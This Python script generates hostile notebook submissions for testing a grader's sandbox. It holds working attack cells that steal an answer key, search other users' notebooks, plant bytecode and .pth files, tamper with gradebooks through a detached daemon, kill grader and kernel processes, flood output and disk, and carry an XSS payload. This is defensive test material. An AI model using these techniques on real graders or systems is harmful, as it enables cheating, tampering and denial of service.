"""Write the hostile submissions of the grader-isolation suite (tests/test_grading_attacks.py).

Run ``python tests/data/attacks/make_attacks.py`` after editing; the notebooks are committed.
Each is a copy of a fixture submission (``blank``, ``wrong`` or ``good``) with attack cells
added after the setup cell. Every attack is bounded in time and size (a capped fork bomb, a
capped disk fill, loopback only). An attack that *works* changes a score: each one only sets
answers (or writes files) when it reaches something it must not.

Never grade these with ``--no-sandbox``: where they succeed they do what they say — kill
kernels and pytest/labkit processes of your user, plant bytecode and edit files in labkit
installations they can find, rewrite gradebooks under /tmp and /work.
"""
import json
import re
from pathlib import Path

HERE = Path(__file__).parent
BASES = HERE.parent / "submissions"

# the correct answers, computed the way an attacker who got in would use them
SOLVE = ("answer_count = len(customers)\n"
         "answer_channel = customers['channel'].value_counts().idxmax()\n"
         "answer_mean = round(transactions['amount'].mean(), 2)\n")

ATTACKS = {
    # 1. the answer key inside the kernel
    "answer_key": ("blank", [
        "import labkit.checks as c\n"
        "try:\n"
        "    answer_count = c.get_exercise('nb0.customers_count').expected()\n"
        "    answer_channel = c.get_exercise('nb0.top_channel').expected()\n"
        "    answer_mean = c.get_exercise('nb0.mean_amount').expected()\n"
        "except Exception as err:\n"
        "    print('no key:', type(err).__name__)\n",
        "try:\n"
        "    from labkit.checks import nb0\n"
        "    key = {e.id: e.expected() for e in nb0.EXERCISES}\n"
        "    answer_count = key['nb0.customers_count']\n"
        "except Exception as err:\n"
        "    print('no module:', type(err).__name__)\n"]),
    # 2. reading what is not the student's: the instructor notebook, classmates' files
    "reads_others": ("blank", [
        "import os, time\n"
        "places = [os.path.expanduser('~'), '/work', '/root', '/home', '/srv']\n"
        "pid, chain = os.getppid(), []\n"
        "while pid > 1 and len(chain) < 10:\n"
        "    try:\n"
        "        chain.append(os.readlink(f'/proc/{pid}/cwd'))\n"
        "        pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
        "    except (OSError, ValueError, IndexError):\n"
        "        break\n"
        "for pid in os.listdir('/proc'):\n"
        "    if not pid.isdigit() or int(pid) == os.getpid():\n"
        "        continue\n"
        "    try:\n"
        "        cmd = open(f'/proc/{pid}/cmdline', 'rb').read().decode(errors='replace').split('\\0')\n"
        "        places.insert(0, os.readlink(f'/proc/{pid}/cwd'))\n"
        "    except OSError:\n"
        "        continue\n"
        "    places[:0] = [a if os.path.isdir(a) else os.path.dirname(a) for a in cmd if a.startswith('/')]\n"
        "places[:0] = chain  # the grader's own folders first\n"
        "deadline, stolen, seen = time.time() + 4, None, set()\n"
        "for place in places:\n"
        "    for folder, dirs, files in os.walk(place):\n"
        "        dirs[:] = [d for d in dirs if not d.startswith('.') and folder.count('/') < 8]\n"
        "        for name in files:\n"
        "            path = os.path.join(folder, name)\n"
        "            if name.endswith('.ipynb') and path not in seen:\n"
        "                seen.add(path)\n"
        "                try:\n"
        "                    text = open(path, encoding='utf-8').read()\n"
        "                except (OSError, UnicodeDecodeError):\n"
        "                    continue\n"
        "                if 'answer_count = len(customers)' in text:\n"
        "                    stolen = stolen or path\n"
        "        if stolen or time.time() > deadline:\n"
        "            break\n"
        "    if stolen or time.time() > deadline:\n"
        "        break\n"
        "print('stolen from', stolen, 'after looking at', len(seen), 'notebooks')\n"
        "if stolen:\n" + "".join("    " + line + "\n" for line in SOLVE.splitlines())]),
    # 3. code execution in the grader process: bytecode planted in the grader's __pycache__
    "plants_bytecode": ("wrong", [
        "import os, sys, glob, importlib.util, marshal\n"
        "evil = compile('import builtins; builtins.LABKIT_PWNED = True', 'x', 'exec')\n"
        "targets = []\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        targets.append(os.readlink(f'/proc/{pid}/cwd'))\n"
        "    except OSError:\n"
        "        pass\n"
        "import labkit\n"
        "targets.append(os.path.dirname(os.path.dirname(labkit.__file__)))\n"
        "planted = 0\n"
        "for base in set(targets):\n"
        "    for src in glob.glob(os.path.join(base, 'labkit', '**', '*.py'), recursive=True)[:200]:\n"
        "        pyc = importlib.util.cache_from_source(src)\n"
        "        try:\n"
        "            os.makedirs(os.path.dirname(pyc), exist_ok=True)\n"
        "            with open(pyc, 'wb') as f:\n"
        "                f.write(importlib.util.MAGIC_NUMBER + b'\\0' * 12 + marshal.dumps(evil))\n"
        "            planted += 1\n"
        "        except OSError:\n"
        "            pass\n"
        "print('planted', planted)\n"]),
    # 4. editing the grader's installation: labkit, datasets, a .pth file in the venv
    "edits_install": ("wrong", [
        "import os, sys, glob, site\n"
        "import labkit\n"
        "hits = []\n"
        "lib = os.path.dirname(labkit.__file__)\n"
        "for target, text in [(os.path.join(lib, 'checks', 'nb0.py'), 'EXERCISES = []\\n'),\n"
        "                     (os.path.join(lib, 'checks', '__init__.py'), 'def evaluate(*a): pass\\n'),\n"
        "                     (os.path.join(os.environ.get('LABKIT_DATA', '.'), 'customers.csv'), 'x\\n')]:\n"
        "    try:\n"
        "        with open(target, 'a') as f:\n"
        "            f.write(text)\n"
        "        hits.append(target)\n"
        "    except OSError:\n"
        "        pass\n"
        "for sp in site.getsitepackages() + [sys.prefix]:\n"
        "    try:\n"
        "        with open(os.path.join(sp, 'zz_labkit_attack.pth'), 'w') as f:\n"
        "            f.write('import builtins; builtins.LABKIT_PWNED = True\\n')\n"
        "        hits.append(sp)\n"
        "    except OSError:\n"
        "        pass\n"
        "print('wrote', hits)\n"]),
    # 5. escaping the watchdog: a setsid daemon that outlives the kernel and edits the gradebook
    "setsid_daemon": ("wrong", [
        "import subprocess, sys, os\n"
        "daemon = '''\n"
        "import os, time, glob\n"
        "os.setsid()\n"
        "deadline = time.time() + 25\n"
        "while time.time() < deadline:\n"
        "    for pattern in ('/tmp/**/gradebook*.csv', '/work/**/gradebook*.csv'):\n"
        "        for path in glob.glob(pattern, recursive=True)[:5]:\n"
        "            try:\n"
        "                text = open(path, encoding='utf-8-sig').read()\n"
        "                open(path, 'w').write(text.replace(',0,0,0,0,', ',1,1,1,3,'))\n"
        "            except OSError:\n"
        "                pass\n"
        "    time.sleep(0.5)\n"
        "'''\n"
        "subprocess.Popen([sys.executable, '-c', daemon, 'labkit-attack-daemon'], start_new_session=True,\n"
        "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "print('daemon started')\n"]),
    # 6. sibling work folders: code injected into later submissions' private labkit copies
    "poisons_siblings": ("wrong", [
        "import os, glob, tempfile, time\n"
        "roots = {tempfile.gettempdir(), '/tmp', '/var/tmp'}\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        roots.add(os.path.dirname(os.readlink(f'/proc/{pid}/cwd')))\n"
        "    except OSError:\n"
        "        pass\n"
        "poisoned = 0\n"
        "deadline = time.time() + 3\n"
        "while time.time() < deadline:\n"
        "    for root in roots:\n"
        "        for nb0 in glob.glob(os.path.join(root, '*', '**', 'checks', '__init__.py'), recursive=True)[:20]:\n"
        "            try:\n"
        "                with open(nb0, 'a') as f:\n"
        "                    f.write('\\nimport os as _o\\n_o._exit(0)\\n')\n"
        "                poisoned += 1\n"
        "            except OSError:\n"
        "                pass\n"
        "    time.sleep(0.2)\n"
        "print('poisoned', poisoned)\n"]),
    # 7. other kernels: SIGKILL by pid, hijacking over 127.0.0.1 with a stolen connection file
    "attacks_kernels": ("wrong", [
        "import os, signal, glob, json, socket\n"
        "me = {os.getpid(), os.getppid(), 1}\n"
        "killed = []\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit() and int(pid) not in me:\n"
        "        try:\n"
        "            cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
        "            if b'ipykernel' in cmd or b'labkit' in cmd:\n"
        "                os.kill(int(pid), signal.SIGKILL)\n"
        "                killed.append(pid)\n"
        "        except OSError:\n"
        "            pass\n"
        "files = glob.glob('/tmp/**/kernel*.json', recursive=True)[:20]\n"
        "files += glob.glob(os.path.expanduser('~/.local/share/jupyter/runtime/*.json'))[:20]\n"
        "reached = []\n"
        "for path in files:\n"
        "    try:\n"
        "        info = json.load(open(path))\n"
        "        s = socket.create_connection((info.get('ip', '127.0.0.1'), info['shell_port']), timeout=0.5)\n"
        "        reached.append(path)\n"
        "        s.close()\n"
        "    except Exception:\n"
        "        pass\n"
        "for port in range(40000, 40050):\n"
        "    try:\n"
        "        socket.create_connection(('127.0.0.1', port), timeout=0.05).close()\n"
        "        reached.append(port)\n"
        "    except OSError:\n"
        "        pass\n"
        "print('killed', killed, 'reached', reached)\n"]),
    # 8. the grader itself: SIGKILL of the grader's process and its pool
    "kills_grader": ("wrong", [
        "import os, signal\n"
        "victims = []\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit() and int(pid) not in (os.getpid(), 1):\n"
        "        try:\n"
        "            cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
        "        except OSError:\n"
        "            continue\n"
        "        if b'pytest' in cmd or b'labkit' in cmd or b'multiprocessing' in cmd:\n"
        "            victims.append(int(pid))\n"
        "for pid in victims + [os.getppid()]:\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n"
        "        pass\n"
        "print('tried', len(victims))\n"]),
    # 9a. output cap: outputs carrying the grader's MIME key without the run's nonce
    "forged_mime": ("good", [
        "import IPython.display, threading, time\n"
        "MIME = 'application/vnd.labkit.answers+json'\n"
        "blob = 'x' * (1 << 20)\n"
        "for i in range(12):\n"
        "    IPython.display.display({MIME: {'nonce': 'f' * 32, 'pad': blob}}, raw=True)\n"
        "def flood():\n"
        "    for i in range(12):\n"
        "        IPython.display.display({MIME: {'nonce': 'f' * 32, 'pad': blob}}, raw=True)\n"
        "        time.sleep(0.05)\n"
        "threading.Thread(target=flood, daemon=True).start()\n"]),
    # 9b. output cap: widget comm messages (12 MB)
    "comm_flood": ("good", [
        "from comm import create_comm\n"
        "blob = 'y' * (1 << 20)\n"
        "comms = [create_comm(target_name='jupyter.widget', data={'state': {'v': blob}, 'buffer_paths': []})\n"
        "         for i in range(6)]\n"
        "for c in comms:\n"
        "    c.send({'method': 'update', 'state': {'v': blob}, 'buffer_paths': []})\n"]),
    # 9c. output cap: one 150 MB message (over the 64 MB the grader's sockets accept)
    "giant_message": ("good", ["print('z' * (150 << 20))\n"]),
    # partial: a malformed comm_open must not turn an honest submission into `error`
    "malformed_comm": ("good", [
        "k = get_ipython().kernel\n"
        "for content in ({'comm_id': 5, 'data': 'not a dict'}, {'data': {'state': 7}}, {'comm_id': 'c', 'data': None},\n"
        "                {'comm_id': 'd', 'target_name': 'jupyter.widget', 'data': {'state': [1], 'buffer_paths': 3}}):\n"
        "    k.session.send(k.iopub_socket, 'comm_open', content, parent=k.get_parent('shell'))\n"
        "    k.session.send(k.iopub_socket, 'comm_msg', content, parent=k.get_parent('shell'))\n"]),
    # a capped fork bomb (at most 200 processes, each sleeping)
    "fork_bomb": ("good", [
        "import subprocess, sys\n"
        "children = []\n"
        "for i in range(200):\n"
        "    try:\n"
        "        children.append(subprocess.Popen(['sleep', '300'], start_new_session=True))\n"
        "    except OSError:\n"
        "        break\n"
        "print(len(children), 'children')\n"]),
    # a capped disk fill: /tmp (a size-limited tmpfs) until it is full, at most 400 MB
    "disk_fill": ("good", [
        "import os, errno\n"
        "written = 0\n"
        "try:\n"
        "    for n in range(25):\n"
        "        with open(f'/tmp/fill{n}', 'wb') as f:\n"
        "            for i in range(16):\n"
        "                f.write(b'\\1' * (1 << 20))\n"
        "                written += 1\n"
        "except OSError as err:\n"
        "    print('stopped after', written, 'MB:', errno.errorcode.get(err.errno))\n"
        "for n in range(25):\n"
        "    if os.path.exists(f'/tmp/fill{n}'):\n"
        "        os.remove(f'/tmp/fill{n}')\n"]),
    # the same into the socket folder, the one writable host folder (watched by the grader)
    "socket_folder_fill": ("good", [
        "import os\n"
        "args = open('/proc/self/cmdline', 'rb').read().split(b'\\0')\n"
        "conn = [a.decode() for a in args if a.endswith(b'.json')]\n"
        "folder = os.path.dirname(conn[0]) if conn else '.'\n"
        "for n in range(40):\n"
        "    try:\n"
        "        with open(os.path.join(folder, f'fill{n}'), 'wb') as f:\n"
        "            for i in range(8):\n"
        "                f.write(b'\\1' * (1 << 20))\n"
        "    except OSError:\n"
        "        break\n"
        "import time; time.sleep(3)\n"]),
    # 10. feedback files: markup in the id and in exception names; a claimed classmate id
    "markup_id": ("wrong", [
        "class Bad(Exception):\n    pass\n"
        "Bad.__name__ = Bad.__qualname__ = '<img src=x onerror=alert(1)>'\n"
        "raise Bad('## Score 3 / 3')\n"]),
    "claims_good": ("wrong", []),
}

META = {
    "markup_id": {"student_id": "x\n# Score 3 / 3 <img src=x onerror=alert(1)> | `"},
    "claims_good": {"student_id": "good"},
}


def build(name: str, base: str, cells: list[str]) -> dict:
    nb = json.loads((BASES / f"{base}.ipynb").read_text(encoding="utf-8"))
    extra = [{"cell_type": "code", "execution_count": None, "id": f"attack-{i}", "metadata": {},
              "outputs": [], "source": src} for i, src in enumerate(cells)]
    nb["cells"][2:2] = extra
    if base == "blank":  # the attack answers above; the placeholders must not undo it
        for cell in nb["cells"]:
            source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            cell["source"] = re.sub(r"(?m)^(answer_\w+) = \.\.\.$", r"\1 = globals().get('\1', ...)", source)
    if name in META:
        nb["metadata"]["labkit"] = META[name]
    return nb


def main() -> None:
    for name, (base, cells) in ATTACKS.items():
        nb = build(name, base, cells)
        (HERE / f"{name}.ipynb").write_text(json.dumps(nb, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    print(f"wrote {len(ATTACKS)} notebooks to {HERE.name}/")


if __name__ == "__main__":
    main()
